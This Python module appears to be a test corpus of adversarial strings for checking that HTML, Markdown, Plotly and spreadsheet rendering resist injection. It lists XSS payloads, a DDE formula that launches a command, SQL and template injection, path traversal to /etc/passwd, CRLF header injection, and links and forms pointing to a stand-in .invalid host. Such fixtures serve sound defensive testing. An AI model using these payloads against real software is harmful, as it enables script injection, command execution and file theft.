"""Texts that have broken other programs: what a page, a file or a spreadsheet could take for markup, code or a formula.

All of them are made up here. Addresses end in ``.invalid``, which no name server answers (RFC 2606); ``window.pwned`` is the flag a
script of theirs would set.
"""

from __future__ import annotations

HTML = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src="https://poison.invalid/i.png">',
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    "<a href=\"javascript:window.pwned=1\">poisoned</a>",
    "' onmouseover='window.pwned=1' x='",
    '" onfocus="window.pwned=1" autofocus x="',
    "<style>@import 'https://poison.invalid/s.css';body{display:none}</style>",
    "<link rel=stylesheet href=https://poison.invalid/s.css>",
    "<base href=https://poison.invalid/><form action=https://poison.invalid/><input name=q>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
    "<!--<img src=x onerror=window.pwned=1>-->]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<details open ontoggle=window.pwned=1><summary>poisoned</summary></details>",
)  # fmt: skip
MARKDOWN = (
    "[poisoned](javascript:window.pwned=1)",
    "[poisoned](https://poison.invalid/l)",
    "![poisoned](https://poison.invalid/m.png)",
    "[poisoned]: https://poison.invalid/r\n\n[poisoned]",
    "<https://poison.invalid/auto> https://poison.invalid/bare www.poison.invalid",
    "**poisoned** __poisoned__ ~~poisoned~~ `poisoned`",
    "# poisoned",
    "- poisoned\n- poisoned",
    "1. poisoned",
    "> poisoned",
    "---",
    "| poisoned | poisoned |\n|---|---|\n| poisoned | poisoned |",
    "```\npoisoned\n```",
    "    poisoned",
    "$\\href{https://poison.invalid/k}{poisoned}$ $$x^2$$",
    ":material/skull: :streamlit: :skull: :red[poisoned] :blue-background[poisoned] :small[poisoned] :rainbow[poisoned]",
    ":red-badge[poisoned] -> <- --",
    "\\",
    "[x]( [x][y] ](",
)  # fmt: skip
PLOTLY = (
    "<b>poisoned</b><br><i>poisoned</i>",
    '<a href="https://poison.invalid/p">poisoned</a>',
    "<span style='font-size:99px'>poisoned</span>",
    "%{x} %{customdata} %{text}<extra></extra>",
)
FORMULAS = (
    "=HYPERLINK(\"https://poison.invalid/f\",\"poisoned\")",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1"',
    ";=1+1",
)  # fmt: skip
UNICODE = (
    "\u202epoisoned\u202c",
    "\u2066poisoned\u2069",
    "zero\u200bwidth\u200d\ufeffjoin",
    "\x00poisoned",
    "\x01\x08\x0b\x1f\x7f\x85",
    "\ufffe\uffff",
    "\u2028line\u2029separators",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1 \U0001f1ef\U0001f1f5",
    "\U000e0041\U000e0042",
    "𠮷野家 ㍿ ﷽",
    "İıſK",
    "١٢٣ ² ½ ⅷ 〇",
)
CODE = (
    "'; DROP TABLE sources; --",
    "' OR '1'='1",
    '"; SELECT 1',
    "{{7*7}} ${7*7} #{7*7} {0} {} {lang} {n}",
    "%s %d %n %(x)s %%",
    "../../../etc/passwd",
    "C:\\CON\\..\\NUL",
    "\\u003cscript\\u003e",
    "null",
    "NaN",
    "-0",
    "1e999",
    "true",
    "__proto__",
    "constructor",
    "\r\nSet-Cookie: poisoned=1",
    "%00%0d%0a%ff",
)
LONG = ("poisoned " * 1000, "永" * 5000, "a" * 3000, "<" * 2000)
TEXTS = (*HTML, *MARKDOWN, *PLOTLY, *FORMULAS, *UNICODE, *CODE)
CORPUS = (*TEXTS, *LONG)
LINKS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//https://",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:x",
    "//poison.invalid/x",
    "https://poison.invalid/\" onmouseover=\"window.pwned=1",
    "https://poison.invalid/) ![x](https://poison.invalid/i.png",
    "https://poison.invalid/><img src=x onerror=window.pwned=1>",
    "file:///etc/passwd",
)  # fmt: skip
